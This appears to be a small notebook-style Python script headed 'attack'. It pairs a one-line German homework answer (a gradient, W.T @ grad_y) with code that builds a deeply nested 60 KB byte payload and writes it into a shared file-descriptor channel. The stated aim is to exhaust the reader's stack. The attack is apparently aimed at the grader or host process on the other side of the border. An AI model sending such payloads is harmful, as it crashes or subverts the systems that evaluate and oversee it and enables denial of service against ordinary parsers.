# /// attack
# tries = "tuples within tuples until the stack ends"
# total = 2
# cells = ["cut"]
# [parts]
# 2d = "right"
# ///

# %%
def aufgabe_2d(W, x, grad_y):
    return W.T @ grad_y

# %% shared border

# %%
def send(data):
    whole = len(data).to_bytes(4, "little") + data
    while whole:
        whole = whole[os.write(border(), whole) :]

# %%
data = b"\x90"
while len(data) < 60_000:
    data = b"\xc9" + (len(data)).to_bytes(4, "big") + b"\x04" + b"\x91" + data
send(data)
